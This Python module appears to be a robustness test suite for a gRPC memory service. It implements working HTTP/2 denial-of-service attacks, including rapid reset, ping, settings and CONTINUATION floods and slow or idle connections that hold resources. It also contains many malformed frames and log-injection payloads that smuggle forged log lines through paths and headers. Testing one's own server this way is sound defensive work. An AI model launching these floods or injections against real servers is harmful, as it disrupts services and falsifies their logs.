"""Attacks by any client that reaches the port, each bounded in count.

An attack runs until it is done or cancelled; one that holds a resource holds it for as long as the
server allows. `launched` limits the time of each.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping, Sequence
from functools import partial

from grpc_health.v1 import health_pb2

from memoryd.v1 import memory_pb2 as pb

from .frames import (
    FRAME_BYTES,
    PREFACE,
    Connection,
    Flag,
    Kind,
    Setting,
    call_headers,
    connected,
    data,
    dial,
    frame,
    header_block,
    message,
    opened,
    reset,
    settings,
    window_update,
)

Attack = Callable[[str], Awaitable[None]]
"""Given the server's address."""

LINGER_SECONDS = 0.2
"""How long a short attack waits for the server's reaction."""
FLOOD = 5_000
"""Frames of a flood."""
LARGEST_BYTES = 8 * 2**20
"""The most that a server with a message limit of 4 MiB receives before it refuses."""

STORE = b"/memoryd.v1.MemoryService/StoreMemory"
HEALTH = b"/grpc.health.v1.Health/Check"
HEALTH_WATCH = b"/grpc.health.v1.Health/Watch"
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

VALID = pb.StoreMemoryRequest(session_id="stranger", content="a fact").SerializeToString()
FORGED = b"2026-01-01T00:00:00.000+00:00 info memoryd.access call method=/Forged code=OK ms=1"
"""A forged log line to inject."""
LONGEST_LINE = 8_192
"""The most characters in a line of the log."""


async def launched(attack: Attack, address: str, seconds: float) -> None:
    """Run an attack for a limited time; it may fail because the server closes connections."""
    with contextlib.suppress(ConnectionError, TimeoutError):
        async with asyncio.timeout(seconds):
            await attack(address)


@contextlib.asynccontextmanager
async def underway(attack: Attack, address: str, seconds: float = 60.0) -> AsyncIterator[None]:
    """Run an attack during the block."""
    running = asyncio.create_task(launched(attack, address, seconds))
    try:
        yield
    finally:
        running.cancel()
        await asyncio.gather(running, return_exceptions=True)


def forged(log: str) -> list[str]:
    """Log lines that a stranger has forged, made too long, or broken.

    gRPC logs a header that it cannot read as a Python bytes literal; that forges nothing.
    """
    return [
        line
        for line in log.split("\n")
        if line.startswith(FORGED.decode())
        or not line.isprintable()
        or len(line) > LONGEST_LINE
        or _FORGED_RECORD.match(line)
    ]


_FORGED_RECORD = re.compile(r"(\S+ \w+|.*\"logger\":) \"?memoryd\.access\b.*Forged")


# Frames that are wrong


def store_call(stream: int, payload: bytes, *more: tuple[bytes, bytes], ends: bool = True) -> bytes:
    """A call of StoreMemory with these bytes as its body."""
    return opened(stream, call_headers(STORE, *more)) + data(stream, payload, ends=ends)


def _call_with(**changed: bytes | None) -> bytes:
    whole = data(1, message(VALID), ends=True)
    return opened(1, call_headers(**({"path": STORE} | changed))) + whole


def call_of(path: bytes) -> bytes:
    """A whole call of any path."""
    return opened(1, call_headers(path)) + data(1, message(b""), ends=True)


def _with_header(name: bytes, value: bytes) -> bytes:
    return store_call(1, message(VALID), (name, value))


def _headers(block: bytes) -> bytes:
    return frame(Kind.HEADERS, Flag.END_HEADERS, 1, block)


UNDECODABLE_PATHS = (
    b"/\xff",
    b"\xff",
    b"/memoryd.v1.MemoryService/\xff",
    b"/\xc0\x80/\xed\xa0\x80",
    b"/" + b"\xfe" * 7_000,
)
"""Paths that are not UTF-8."""

UNKNOWN_PATHS = {
    "a line of the log": b"/x\n" + FORGED,
    "a line of the log after CR": b"/x\r\n" + FORGED,
    "an escape sequence": b"/x\x1b[2K\x1b[1A" + FORGED,
    "a separator of lines": "/x\u2028\u0085\u2029".encode() + FORGED,
    "a reversed text": "/x\u202e".encode() + FORGED,
    "7,000 characters": b"/" + b"x" * 7_000,
    "fields of the log": b"/x code=OK ms=1 request_id=mine",
    "a quote of JSON": b'/x", "method": "/Forged", "y": "',
    "NUL": b"/x\0y",
}
"""Methods that do not exist."""

WRONG_FRAMES: Mapping[str, bytes] = {
    "no path": _call_with(path=None),
    "an empty path": _call_with(path=b""),
    "no method": _call_with(method=None),
    "GET": _call_with(method=b"GET"),
    "no scheme": _call_with(scheme=None),
    "no authority": _call_with(authority=None),
    "an authority that is not UTF-8": _call_with(authority=b"\xff\xfe"),
    "no content type": _call_with(content_type=None),
    "another content type": _call_with(content_type=b"text/html"),
    "a content type that is not UTF-8": _call_with(content_type=b"application/grpc+\xff"),
    "no te": _call_with(te=None),
    "a path twice": _with_header(b":path", HEALTH),
    "an unknown pseudo header": _with_header(b":unknown", b"x"),
    "a name in capitals": _with_header(b"X-Capital", b"x"),
    "a name with a line break": _with_header(b"x\r\ny", b"x"),
    "a name that is not UTF-8": _with_header(b"x-\xff", b"x"),
    "an empty name": _with_header(b"", b"x"),
    "a value with a line break": _with_header(b"x-line", b"x\r\n" + FORGED),
    "a value that is not UTF-8": _with_header(b"x-value", b"\xff\xfe\0"),
    "a request id that is not UTF-8": _with_header(b"x-request-id", b"\xff\n" + FORGED),
    "an invalid binary value": _with_header(b"x-bin", b"!!!!\xff"),
    "a user agent that is not UTF-8": _with_header(b"user-agent", b"\xff" * 100),
    "a host that is not UTF-8": _with_header(b"host", b"\xff\n"),
    "connection-specific headers": _with_header(b"transfer-encoding", b"chunked"),
    "a wrong content length": _with_header(b"content-length", b"-1"),
    **{
        f"a timeout of {value!r}": _with_header(b"grpc-timeout", value)
        for value in (b"", b"1", b"-1S", b"1X", b"99999999999S", b"1e9S", b"\xff", b"0n")
    },
    "an unknown encoding": _with_header(b"grpc-encoding", b"brotli\xff"),
    "an unknown accepted encoding": _with_header(b"grpc-accept-encoding", b"x,\xff,,"),
    "compressed rubbish": store_call(
        1, message(b"\xff" * 100, compressed=1), (b"grpc-encoding", b"gzip")
    ),
    "compressed without encoding": store_call(1, message(VALID, compressed=1)),
    "an unknown flag": store_call(1, message(VALID, compressed=255)),
    "a length beyond the data": store_call(1, message(VALID, length=len(VALID) + 1)),
    "a length of 4 GiB": store_call(1, message(VALID, length=2**32 - 1)),
    "half a prefix": store_call(1, b"\0\0\0"),
    "no message": store_call(1, b""),
    "several messages": store_call(1, message(VALID) * 3),
    "a message and a half": store_call(1, message(VALID) + message(VALID)[:-1]),
    "headers that end the stream": opened(
        1, call_headers(STORE), Flag.END_HEADERS | Flag.END_STREAM
    ),
    "an index of zero": _headers(b"\x80"),
    "an index beyond the tables": _headers(b"\xff\xff\xff\x7f"),
    "an integer without end": _headers(b"\xff" * 200),
    "a string beyond the block": _headers(b"\0\x7f\xff\x7fx"),
    "invalid Huffman code": _headers(b"\0\x84\xff\xff\xff\xff\x81\xff"),
    "a table beyond the limit": _headers(b"\x3f\xe1\xff\xff\x7f"),
    "an empty block": _headers(b""),
    "DATA on stream 0": data(0, b"x"),
    "DATA on an idle stream": data(5, b"x"),
    "DATA after the end": store_call(1, message(VALID)) + data(1, b"x") * 3,
    "padding beyond the frame": opened(1, call_headers(STORE))
    + frame(Kind.DATA, Flag.PADDED, 1, b"\xffx"),
    "HEADERS on stream 0": opened(0, call_headers(STORE)),
    "HEADERS on an even stream": opened(2, call_headers(STORE)),
    "HEADERS with decreasing ids": opened(7, call_headers(STORE)) + opened(3, call_headers(STORE)),
    "HEADERS twice": opened(1, call_headers(STORE)) * 2,
    "HEADERS that depend on themselves": frame(
        Kind.HEADERS,
        Flag.END_HEADERS | Flag.PRIORITY,
        1,
        (1).to_bytes(4) + b"\xff" + header_block(call_headers(STORE)),
    ),
    "the last stream": opened(2**31 - 1, call_headers(STORE)) + opened(1, call_headers(STORE)),
    "a reserved bit": opened(2**31 + 1, call_headers(STORE)),
    "CONTINUATION without HEADERS": frame(Kind.CONTINUATION, Flag.END_HEADERS, 1, b"\x82"),
    "a frame between HEADERS and CONTINUATION": frame(Kind.HEADERS, 0, 1, b"\x82")
    + frame(Kind.PING, payload=b"x" * 8),
    "RST_STREAM of an idle stream": reset(9),
    "RST_STREAM of stream 0": reset(0),
    "RST_STREAM of three bytes": frame(Kind.RST_STREAM, stream=1, payload=b"xyz"),
    "PING of seven bytes": frame(Kind.PING, payload=b"x" * 7),
    "PING on a stream": frame(Kind.PING, stream=1, payload=b"x" * 8),
    "SETTINGS of five bytes": frame(Kind.SETTINGS, payload=b"x" * 5),
    "SETTINGS on a stream": frame(Kind.SETTINGS, stream=1),
    "SETTINGS acknowledged with a payload": frame(Kind.SETTINGS, Flag.ACK, payload=b"x" * 6),
    "SETTINGS that are out of range": settings(
        (Setting.ENABLE_PUSH, 2), (Setting.INITIAL_WINDOW_SIZE, 2**32 - 1)
    ),
    "SETTINGS of tiny frames": settings((Setting.MAX_FRAME_SIZE, 1)),
    "SETTINGS without a window": settings((Setting.INITIAL_WINDOW_SIZE, 0))
    + store_call(1, message(VALID)),
    "SETTINGS without a table": settings((Setting.HEADER_TABLE_SIZE, 0), (0xFFFF, 2**32 - 1)),
    "WINDOW_UPDATE of zero": window_update(0, 0),
    "WINDOW_UPDATE of zero on a stream": opened(1, call_headers(STORE)) + window_update(1, 0),
    "WINDOW_UPDATE beyond the limit": window_update(0, 2**31 - 1) * 2,
    "WINDOW_UPDATE beyond the limit on a stream": opened(1, call_headers(STORE))
    + window_update(1, 2**31 - 1) * 2,
    "GOAWAY": frame(Kind.GOAWAY, payload=b"\xff" * 8 + b"\xff" * 1_000)
    + store_call(1, message(VALID)),
    "PUSH_PROMISE": frame(Kind.PUSH_PROMISE, Flag.END_HEADERS, 1, b"\0\0\0\2\x82"),
    "PRIORITY of four bytes": frame(Kind.PRIORITY, stream=1, payload=b"x" * 4),
    "an unknown type": frame(0xFF, 0xFF, 2**31 - 1, b"x" * 100),
    "a frame of 16 MiB": b"\xff\xff\xff" + bytes([Kind.DATA, 0]) + (1).to_bytes(4) + b"x" * 100,
    "half a frame": frame(Kind.PING, payload=b"x" * 8)[:-3],
    "noise": bytes(range(256)) * 4,
}
"""By name; each is sent after the preface and empty SETTINGS."""

WRONG_GREETINGS: Mapping[str, bytes] = {
    "nothing": b"",
    "a wrong preface": b"PRI * HTTP/3.0\r\n\r\nSM\r\n\r\n",
    "half a preface": PREFACE[:10],
    "a preface without SETTINGS": PREFACE + opened(1, call_headers(STORE)),
    "half a TLS hello": bytes.fromhex("16030100c4010000c00303") + b"\x5a" * 60,
    "HTTP/1.1": b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: h2c\r\n\r\n",
    "a path of HTTP/1.1": b"POST /\xff\n\x1b" + FORGED + b" HTTP/1.1\r\n\r\n",
    "noise": bytes(range(256)) * 16,
}
"""By name; nothing else is sent."""


async def send_frames(sent: bytes, address: str) -> None:
    """Greet, send, and wait a moment for the server's reaction."""
    async with connected(address) as connection:
        await connection.send(sent)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(LINGER_SECONDS):
                await connection.closed.wait()


async def send_greeting(sent: bytes, address: str) -> None:
    """Send this instead of a greeting, twenty times."""
    for _ in range(20):
        _, writer = await dial(address)
        writer.write(sent)
        await writer.drain()
        writer.close()


# Floods


async def _flood(address: str, frames: Callable[[int], bytes], *first: bytes) -> None:
    """Send frames number 0, 1, 2 … on one connection, and read what comes back."""
    async with connected(address) as connection:
        await connection.send(*first)
        for number in range(FLOOD):
            await connection.send(frames(number))
        await asyncio.sleep(LINGER_SECONDS)


async def rapid_reset(address: str) -> None:
    await _flood(
        address,
        lambda n: opened(2 * n + 1, call_headers(STORE)) + reset(2 * n + 1),
    )


async def ping_flood(address: str) -> None:
    await _flood(address, lambda n: frame(Kind.PING, payload=n.to_bytes(8)))


async def settings_flood(address: str) -> None:
    await _flood(address, lambda n: settings((Setting.INITIAL_WINDOW_SIZE, n)))


async def priority_flood(address: str) -> None:
    await _flood(address, lambda n: frame(Kind.PRIORITY, stream=2 * n + 3, payload=b"\0\0\0\1\xff"))


async def empty_data_flood(address: str) -> None:
    await _flood(address, lambda _: data(1, b""), opened(1, call_headers(STORE)))


async def window_flood(address: str) -> None:
    await _flood(address, lambda _: window_update(1, 1), opened(1, call_headers(STORE)))


async def empty_continuation_flood(address: str) -> None:
    """Send a header block that never ends and never grows."""
    start = frame(Kind.HEADERS, 0, 1, header_block(call_headers(STORE)))
    await _flood(address, lambda _: frame(Kind.CONTINUATION, stream=1), start)


async def continuation_flood(address: str) -> None:
    """Send a header block of 32 MiB that never ends."""
    async with connected(address) as connection:
        await connection.send(frame(Kind.HEADERS, 0, 1, header_block(call_headers(STORE))))
        header = header_block([(b"x", b"y" * (FRAME_BYTES - 8))])
        for _ in range(32 * 2**20 // FRAME_BYTES):
            await connection.send(frame(Kind.CONTINUATION, stream=1, payload=header))
        await asyncio.sleep(LINGER_SECONDS)


async def long_header_lists(address: str) -> None:
    """Make a thousand calls with header lists of 60 KB in few bytes, by one indexed entry."""
    entry = b"\x40" + header_block([(b"x", b"y" * 3_000)])[1:]
    block = header_block(call_headers(STORE)) + entry + b"\xbe" * 20
    async with connected(address) as connection:
        for stream in range(1, 2_001, 2):
            await connection.send(frame(Kind.HEADERS, Flag.END_HEADERS, stream, block))
        await asyncio.sleep(LINGER_SECONDS)


async def many_headers(address: str) -> None:
    """Make a hundred calls with a thousand headers each."""
    more = [(b"x-%d" % number, b"") for number in range(1_000)]
    for _ in range(100):
        async with connected(address) as connection:
            await connection.send(store_call(1, message(VALID), *more))
            await asyncio.sleep(0)


async def unread_answers(address: str) -> None:
    """Make calls without a window for their answers."""
    async with connected(address, (Setting.INITIAL_WINDOW_SIZE, 0)) as connection:
        for stream in range(1, 400, 2):
            await connection.send(store_call(stream, message(VALID)))
        await connection.closed.wait()


FLOODS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        settings_flood,
        priority_flood,
        empty_data_flood,
        window_flood,
        empty_continuation_flood,
        continuation_flood,
        long_header_lists,
        many_headers,
        unread_answers,
    )
}


# Attacks that hold resources


async def _until_closed(connections: Sequence[Connection]) -> None:
    for connection in connections:
        await connection.closed.wait()


async def unfinished_messages(
    address: str, streams: int = 64, size: int = LARGEST_BYTES, path: bytes = STORE
) -> None:
    """Send messages without their last byte, on one connection."""
    async with connected(address) as connection:

        async def send(stream: int) -> None:
            with contextlib.suppress(ConnectionError):
                await connection.send(opened(stream, call_headers(path)))
                await connection.send_data(stream, message(b"x" * (size - 1), length=size))

        await asyncio.gather(*(send(2 * number + 1) for number in range(streams)))
        await connection.closed.wait()


async def headers_alone(address: str, connections: int = 10, streams: int = 3_000) -> None:
    """Make calls that send only headers, as many as a connection allows."""
    async with contextlib.AsyncExitStack() as stack:
        started = []
        for _ in range(connections):
            connection = await stack.enter_async_context(connected(address))
            started.append(connection)
            with contextlib.suppress(ConnectionError):
                for stream in range(1, 2 * streams, 2):
                    await connection.send(opened(stream, call_headers(STORE)))
        await _until_closed(started)


async def slow_messages(address: str, streams: int = 100) -> None:
    """Send whole headers at once, and each message byte by byte."""
    async with connected(address) as connection:
        numbers = range(1, 2 * streams, 2)
        await connection.send(*(opened(n, call_headers(STORE)) for n in numbers))
        for byte in message(VALID, length=2**20):
            await connection.send(*(data(n, bytes([byte])) for n in numbers))
            await asyncio.sleep(0.25)


async def slow_greetings(address: str, connections: int = 100) -> None:
    """Send the preface byte by byte."""
    async with contextlib.AsyncExitStack() as stack:
        slow = [
            await stack.enter_async_context(connected(address, greets=False))
            for _ in range(connections)
        ]
        for byte in PREFACE:
            for connection in slow:
                with contextlib.suppress(ConnectionError):
                    await connection.send(bytes([byte]))
            await asyncio.sleep(0.5)
        await _until_closed(slow)


async def idle_connections(address: str, connections: int = 300, *, greets: bool = False) -> None:
    """Open connections and send nothing, or only a greeting."""
    async with contextlib.AsyncExitStack() as stack:
        idle = []
        for _ in range(connections):
            with contextlib.suppress(ConnectionError):
                idle.append(await stack.enter_async_context(connected(address, greets=greets)))
        await _until_closed(idle)


async def idle_streams(address: str, path: bytes, streams: int, request: bytes | None) -> None:
    """Open streams, with a request or without, and leave them alone."""
    async with connected(address) as connection:
        for stream in range(1, 2 * streams, 2):
            await connection.send(opened(stream, call_headers(path)))
            if request is not None:
                await connection.send(data(stream, message(request), ends=True))
        await connection.closed.wait()


idle_reflection = partial(idle_streams, path=REFLECTION, streams=20, request=None)
idle_health_watches = partial(
    idle_streams,
    path=HEALTH_WATCH,
    streams=200,
    request=health_pb2.HealthCheckRequest().SerializeToString(),
)
idle_unknown_methods = partial(idle_streams, path=b"/no.such/Method", streams=200, request=None)

HOLDS: Mapping[str, Attack] = {
    "unfinished messages": unfinished_messages,
    "headers alone": headers_alone,
    "slow messages": slow_messages,
    "slow greetings": slow_greetings,
    "idle connections": idle_connections,
    "idle connections that greet": partial(idle_connections, greets=True),
    "idle reflection": idle_reflection,
    "idle health watches": idle_health_watches,
    "idle unknown methods": idle_unknown_methods,
    "unfinished messages of health": partial(unfinished_messages, path=HEALTH),
    "unfinished messages of reflection": partial(unfinished_messages, path=REFLECTION),
    "unfinished messages of no method": partial(unfinished_messages, path=b"/no.such/Method"),
}


async def over_and_over(attack: Attack, pause_seconds: float, address: str) -> None:
    """Repeat a short attack, whether or not the server accepts its connections."""
    while True:
        with contextlib.suppress(ConnectionError):
            await attack(address)
        await asyncio.sleep(pause_seconds)
